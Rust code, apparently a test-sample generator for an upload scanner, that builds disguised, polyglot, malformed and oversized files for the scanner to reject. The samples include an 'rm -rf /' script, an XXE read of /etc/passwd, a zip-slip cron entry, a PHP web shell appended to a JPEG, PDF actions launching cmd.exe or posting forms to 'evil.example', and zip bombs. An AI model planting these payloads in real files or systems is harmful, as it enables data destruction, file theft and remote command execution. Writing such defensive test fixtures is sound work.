//! Files that are not what they say, that are several things at once, that run something, or that are far larger inside
//! than outside. Made here, never kept: the repository holds no malware.

use std::io::{Cursor, Write as _};

use fastrand::Rng;
use flate2::Compression;
use flate2::write::{DeflateEncoder, GzEncoder};
use image::{DynamicImage, ImageFormat, RgbImage};
use papers::Refusal::{Active, Broken, Huge, Locked, Mixed, TooMuch, Unknown};

use crate::Sample;
use crate::pdf::{Pdf, deflate, stream};

/// The string that every scanner takes for a virus, in two halves, so that none takes this file for one (eicar.org).
const EICAR: [&str; 2] = [
    "X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-",
    "ANTIVIRUS-TEST-FILE!$H+H*",
];

fn eicar() -> Vec<u8> {
    EICAR.concat().into_bytes()
}

fn noise(rng: &mut Rng, n: usize) -> Vec<u8> {
    (0..n).map(|_| rng.u8(..)).collect()
}

fn picture(rng: &mut Rng, format: ImageFormat) -> Vec<u8> {
    let (width, height) = (rng.u32(8..80), rng.u32(8..80));
    let mut rgb = RgbImage::new(width, height);
    rgb.iter_mut().for_each(|b| *b = rng.u8(..));
    let mut out = Cursor::new(Vec::new());
    DynamicImage::ImageRgb8(rgb).write_to(&mut out, format).expect("memory");
    out.into_inner()
}

/// A zip file with one packed entry (APPNOTE 4.3).
fn zip(name: &str, content: &[u8]) -> Vec<u8> {
    let mut packed = DeflateEncoder::new(Vec::new(), Compression::best());
    packed.write_all(content).expect("memory");
    let packed = packed.finish().expect("memory");
    let size = |n: usize| u32::try_from(n).expect("small").to_le_bytes();
    let mut facts = vec![20, 0, 0, 0, 8, 0, 0, 0, 0, 0];
    facts.extend([[0; 4], size(packed.len()), size(content.len())].concat());
    facts.extend(u16::try_from(name.len()).expect("short").to_le_bytes());
    facts.extend([0, 0]);
    let mut out = [b"PK\x03\x04".to_vec(), facts.clone(), name.as_bytes().to_vec(), packed].concat();
    let at = out.len();
    out.extend(
        [
            b"PK\x01\x02\x14\0".to_vec(),
            facts,
            vec![0; 14],
            name.as_bytes().to_vec(),
        ]
        .concat(),
    );
    let length = out.len() - at;
    out.extend(
        [
            b"PK\x05\x06\0\0\0\0\x01\0\x01\0".to_vec(),
            size(length).to_vec(),
            size(at).to_vec(),
            vec![0, 0],
        ]
        .concat(),
    );
    out
}

/// The same archive with a comment at its end (APPNOTE 4.3.16).
fn commented(zip: &[u8], comment: &[u8]) -> Vec<u8> {
    let length = u16::try_from(comment.len()).expect("short").to_le_bytes();
    [&zip[..zip.len() - 2], &length, comment].concat()
}

/// A PNG that says how large it is, and holds zeros only.
fn flood(width: u32, height: u32) -> Vec<u8> {
    let chunk = |name: &[u8], body: &[u8]| {
        let named = [name, body].concat();
        let mut sum = flate2::Crc::new();
        sum.update(&named);
        [
            &u32::try_from(body.len()).expect("small").to_be_bytes()[..],
            &named,
            &sum.sum().to_be_bytes(),
        ]
        .concat()
    };
    let head = [&width.to_be_bytes()[..], &height.to_be_bytes(), &[8, 0, 0, 0, 0]].concat();
    let rows = deflate(&vec![0; 4096]);
    [
        b"\x89PNG\r\n\x1a\n".to_vec(),
        chunk(b"IHDR", &head),
        chunk(b"IDAT", &rows),
        chunk(b"IEND", b""),
    ]
    .concat()
}

/// A JPEG whose frame header says other sizes (ITU-T T.81, B.2.2).
fn lying_jpeg(rng: &mut Rng) -> Vec<u8> {
    let mut bytes = picture(rng, ImageFormat::Jpeg);
    let at = bytes.windows(2).position(|w| w == [0xff, 0xc0]).expect("a frame");
    bytes.splice(at + 5..at + 9, [0xff, 0xdc, 0xff, 0xdc]);
    bytes
}

/// A comment of a JPEG (ITU-T T.81, B.2.4.5).
fn comment(text: &[u8]) -> Vec<u8> {
    let length = u16::try_from(text.len() + 2).expect("short").to_be_bytes();
    [&[0xff, 0xfe], &length[..], text].concat()
}

fn behind_comment(jpeg: &[u8]) -> Vec<u8> {
    [&jpeg[..2], &comment(b"\xff\xc9"), &jpeg[2..]].concat()
}

/// With a chunk of its own before the end.
fn png_with(png: &[u8], body: &[u8]) -> Vec<u8> {
    let named = [b"zIPp", body].concat();
    let mut sum = flate2::Crc::new();
    sum.update(&named);
    let length = u32::try_from(body.len()).expect("small").to_be_bytes();
    let end = png.len() - 12;
    [&png[..end], &length, &named, &sum.sum().to_be_bytes(), &png[end..]].concat()
}

/// Not one of the three kinds, whatever the name says.
fn other_kinds(rng: &mut Rng) -> Vec<(&'static str, Vec<u8>)> {
    let script = format!("<script>alert({})</script>", rng.u32(..));
    let mut gz = GzEncoder::new(Vec::new(), Compression::best());
    gz.write_all(&vec![0; 1 << 20]).expect("memory");
    let with = |head: &[u8], rng: &mut Rng| [head, &noise(rng, 200)].concat();
    vec![
        ("nothing", Vec::new()),
        ("noise", [vec![0], noise(rng, 300)].concat()),
        ("windows program", with(b"MZ\x90\0\x03", rng)),
        ("linux program", with(b"\x7fELF\x02\x01\x01", rng)),
        ("shell script", b"#!/bin/sh\nrm -rf /\n".to_vec()),
        (
            "web page",
            format!("<!DOCTYPE html><html><body>{script}</body></html>").into_bytes(),
        ),
        (
            "drawing with script",
            format!("<svg xmlns='http://www.w3.org/2000/svg'>{script}</svg>").into_bytes(),
        ),
        (
            "xml that reads files",
            b"<?xml version='1.0'?><!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]><a>&b;</a>".to_vec(),
        ),
        ("eicar", eicar()),
        ("eicar in a zip", zip("brief.pdf", &eicar())),
        (
            "zip that unpacks elsewhere",
            zip("../../../etc/cron.d/x", b"* * * * * root id"),
        ),
        ("zip bomb", zip("null", &vec![0; 4 << 20])),
        ("gzip bomb", gz.finish().expect("memory")),
        ("document with macros", zip("word/vbaProject.bin", &noise(rng, 300))),
        ("old document", with(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", rng)),
        (
            "gif that is an archive",
            [
                b"GIF89a\x01\0\x01\0\0\0\0;".to_vec(),
                zip("a.class", b"\xca\xfe\xba\xbe"),
            ]
            .concat(),
        ),
        ("bitmap", with(b"BM\x36\0\0\0\0\0\0\0\x36", rng)),
        (
            "pdf behind other things",
            [noise(rng, 9), Pdf::new("x").bytes()].concat(),
        ),
    ]
}

fn pictures(rng: &mut Rng) -> Vec<(&'static str, Vec<u8>, papers::Refusal)> {
    let page = format!("<html><script>alert({})</script></html>", rng.u32(..)).into_bytes();
    let (jpeg, png) = (picture(rng, ImageFormat::Jpeg), picture(rng, ImageFormat::Png));
    let cut = |bytes: &[u8], rng: &mut Rng| bytes[..rng.usize(bytes.len() / 3..bytes.len() * 2 / 3)].to_vec();
    let spoilt = {
        let mut bytes = png.clone();
        let at = bytes.len() / 2;
        bytes[at] ^= 0x55;
        bytes
    };
    vec![
        ("jpeg and zip", [jpeg.clone(), zip("a.exe", b"MZ")].concat(), Mixed),
        ("jpeg and web page", [jpeg.clone(), page.clone()].concat(), Mixed),
        (
            "jpeg and php",
            [jpeg.clone(), b"<?php system($_GET[0]); ?>".to_vec()].concat(),
            Mixed,
        ),
        ("jpeg and pdf", [jpeg.clone(), Pdf::new("x").bytes()].concat(), Mixed),
        (
            "jpeg of markers only",
            b"\xff\xd8\xff\xc9\xff\xd9 MZ\x90\0 program".to_vec(),
            Broken,
        ),
        (
            "jpeg of noise with a rare marker",
            [b"\xff\xd8\xff\xe0\0\x04ab\xff\xc9".to_vec(), noise(rng, 400)].concat(),
            Broken,
        ),
        (
            "jpeg that lies behind a comment",
            behind_comment(&lying_jpeg(rng)),
            Huge,
        ),
        (
            "jpeg and program",
            [jpeg.clone(), b"\0MZ\x90\0program".to_vec()].concat(),
            Mixed,
        ),
        (
            "jpeg with an archive inside",
            [&jpeg[..2], &comment(&zip("a.exe", b"MZ")), &jpeg[2..]].concat(),
            Mixed,
        ),
        (
            "png with an archive inside",
            png_with(&png, &zip("a.exe", b"MZ")),
            Mixed,
        ),
        ("jpeg cut off", cut(&jpeg, rng), Broken),
        (
            "jpeg of noise",
            [b"\xff\xd8\xff\xe0".to_vec(), noise(rng, 400)].concat(),
            Broken,
        ),
        ("jpeg of 4 thousand million pixels", lying_jpeg(rng), Huge),
        ("png and zip", [png.clone(), zip("a.exe", b"MZ")].concat(), Mixed),
        ("png and web page", [png.clone(), page].concat(), Mixed),
        ("png cut off", cut(&png, rng), Broken),
        ("png spoilt", spoilt, Broken),
        (
            "png flood",
            flood(rng.u32(12_000..20_000), rng.u32(12_000..20_000)),
            Huge,
        ),
        ("png ribbon", flood(rng.u32(21_000..4_000_000), 1), Huge),
        (
            "png with less than it says",
            flood(rng.u32(500..900), rng.u32(500..900)),
            Broken,
        ),
    ]
}

fn documents(rng: &mut Rng) -> Vec<(&'static str, Vec<u8>, papers::Refusal)> {
    let pdf = || Pdf::new("Lageplan");
    let js = format!("<< /S /JavaScript /JS (app.alert\\({}\\)) >>", rng.u32(..));
    let escaped = "<< /S /Java#53cript /#4a#53 (app.alert\\(1\\)) >>";
    let file = |bytes: &[u8], packed: bool| {
        pdf()
            .catalogue("/Names << /EmbeddedFiles << /Names [(rechnung.xml) 5 0 R] >> >>")
            .object("<< /Type /Filespec /F (rechnung.xml) /EF << /F 6 0 R >> >>")
            .object(stream("/Type /EmbeddedFile", bytes, packed))
            .bytes()
    };
    let quiet = |bytes: &[u8]| {
        pdf()
            .catalogue("/Names << /EmbeddedFiles << /Names [(rechnung.xml) 5 0 R] >> >>")
            .object("<< /Type /Filespec /F (rechnung.xml) /EF << /F 6 0 R >> >>")
            .object(stream("", bytes, true))
            .bytes()
    };
    let spoilt = |object: &str, from: &str, to: &str| {
        let bytes = pdf().catalogue("/OpenAction 5 0 R").object(object).bytes();
        let at = bytes
            .windows(from.len())
            .position(|w| w == from.as_bytes())
            .expect("the object");
        [&bytes[..at], to.as_bytes(), &bytes[at + from.len()..]].concat()
    };
    let whole = pdf().bytes();
    let annotation = |kind: &str, rest: &str| {
        let note = format!("<< /Type /Annot /Subtype /{kind} /Rect [0 0 9 9] {rest} >>");
        pdf().page("/Annots [5 0 R]").object(note).bytes()
    };
    let mut locked = pdf();
    locked.trailer = "/Encrypt << /Filter /Standard /V 2 /R 3 /Length 128 /P -44 /O <28BF4E5E4E758A4164004E56FFFA01082E2E00B6D0683E802F0CA9FE6453697A> /U <28BF4E5E4E758A4164004E56FFFA01082E2E00B6D0683E802F0CA9FE6453697A> >> /ID [<00> <00>]".into();
    let deep = format!("<< /A {}{} >>", "[".repeat(40), "]".repeat(40));
    vec![
        (
            "script at opening",
            pdf().catalogue("/OpenAction 5 0 R").object(js.clone()).bytes(),
            Active,
        ),
        (
            "script in the catalogue itself",
            pdf().catalogue(&format!("/OpenAction {js}")).bytes(),
            Active,
        ),
        (
            "script in a packed object",
            pdf().catalogue("/OpenAction 5 0 R").object(js.clone()).compressed(),
            Active,
        ),
        (
            "script by another spelling",
            pdf().catalogue("/OpenAction 5 0 R").object(escaped).bytes(),
            Active,
        ),
        (
            "script of the names",
            pdf()
                .catalogue(&format!("/Names << /JavaScript << /Names [(a) {js}] >> >>"))
                .bytes(),
            Active,
        ),
        (
            "script of the page",
            pdf().page(&format!("/AA << /O {js} >>")).bytes(),
            Active,
        ),
        (
            "script of a field",
            pdf()
                .catalogue("/AcroForm << /Fields [5 0 R] >>")
                .object(format!("<< /FT /Tx /T (a) /AA << /K {js} >> >>"))
                .bytes(),
            Active,
        ),
        (
            "script that nothing points to",
            pdf().object(js.clone()).bytes(),
            Active,
        ),
        (
            "program started",
            pdf().catalogue("/OpenAction << /S /Launch /F (cmd.exe) >>").bytes(),
            Active,
        ),
        (
            "program started by a click",
            annotation("Link", "/A << /S /Launch /F (cmd.exe) >>"),
            Active,
        ),
        (
            "form sent away",
            annotation("Widget", "/A << /S /SubmitForm /F (https://evil.example/) >>"),
            Active,
        ),
        (
            "data fetched",
            annotation("Widget", "/A << /S /ImportData /F (a.fdf) >>"),
            Active,
        ),
        (
            "other file opened",
            annotation("Link", "/A << /S /GoToR /F (\\\\\\\\evil.example\\\\a.pdf) >>"),
            Active,
        ),
        ("file inside opened", annotation("Link", "/A << /S /GoToE >>"), Active),
        (
            "page fetched at opening",
            pdf()
                .catalogue("/OpenAction << /S /URI /URI (https://evil.example/?id=1) >>")
                .bytes(),
            Active,
        ),
        (
            "page fetched by itself",
            pdf()
                .page("/AA << /O << /S /URI /URI (https://evil.example/) >> >>")
                .bytes(),
            Active,
        ),
        ("film", annotation("RichMedia", ""), Active),
        (
            "form of another technology",
            pdf()
                .catalogue("/AcroForm << /XFA [(a) 5 0 R] >>")
                .object(stream("", b"<xdp/>", true))
                .bytes(),
            Active,
        ),
        ("program inside", file(b"MZ\x90\0program", rng.bool()), Active),
        ("eicar inside", file(&eicar(), rng.bool()), Active),
        ("archive inside", file(&zip("a.exe", b"MZ"), true), Active),
        (
            "web page inside",
            file(b"<html><script>1</script></html>", rng.bool()),
            Active,
        ),
        (
            "page hidden in xml",
            file(b"<?xml version='1.0'?><html><script>1</script></html>", rng.bool()),
            Active,
        ),
        ("program inside that does not say so", quiet(b"MZ\x90\0program"), Active),
        (
            "script with another generation",
            spoilt(&js, "5 0 obj", "5 1 obj"),
            Active,
        ),
        ("script with another number", spoilt(&js, "5 0 obj", "7 0 obj"), Active),
        (
            "script behind a bracket that never closes",
            pdf()
                .catalogue("/OpenAction 5 0 R")
                .object("<< /S /Java#53cript /JS (app.alert\\(1\\) >>")
                .bytes(),
            Active,
        ),
        (
            "object that cannot be read",
            spoilt("<< /A 1 >>", "5 0 obj", "5 1 obj"),
            Broken,
        ),
        ("password", locked.bytes(), Locked),
        ("and zip", [whole.clone(), zip("a.exe", b"MZ")].concat(), Mixed),
        (
            "and web page",
            [whole.clone(), b"<html></html>".to_vec()].concat(),
            Mixed,
        ),
        (
            "and zip with a comment",
            [whole.clone(), commented(&zip("a.exe", b"MZ"), b"\n%%EOF\n")].concat(),
            Mixed,
        ),
        (
            "and web page with an end",
            [whole.clone(), b"<html><script>1</script></html>\n%%EOF\n".to_vec()].concat(),
            Mixed,
        ),
        (
            "archive in a stream",
            pdf().object(stream("", &zip("a.exe", b"MZ"), false)).bytes(),
            Mixed,
        ),
        ("and noise", [whole.clone(), noise(rng, 9_000)].concat(), Mixed),
        ("cut off", whole[..rng.usize(40..whole.len() / 2)].to_vec(), Broken),
        ("a beginning only", b"%PDF-1.7\n%%EOF\n".to_vec(), Broken),
        (
            "noise",
            [b"%PDF-1.7\n".to_vec(), noise(rng, 500), b"\n%%EOF".to_vec()].concat(),
            Broken,
        ),
        ("brackets without end", pdf().object(deep).bytes(), TooMuch),
    ]
}

pub fn all(seed: u64) -> Vec<Sample> {
    let mut rng = Rng::with_seed(seed);
    let mut out = Vec::new();
    let mut add = |name: &str, bytes: Vec<u8>, why| {
        let name = format!("{name} ({})", out.len());
        out.push(Sample {
            name,
            bytes,
            says: Err(why),
        });
    };
    for _ in 0..6 {
        for (name, bytes) in other_kinds(&mut rng) {
            add(name, bytes, Unknown);
        }
        for (name, bytes, why) in pictures(&mut rng) {
            add(name, bytes, why);
        }
        for (name, bytes, why) in documents(&mut rng) {
            add(&format!("pdf: {name}"), bytes, why);
        }
    }
    out
}
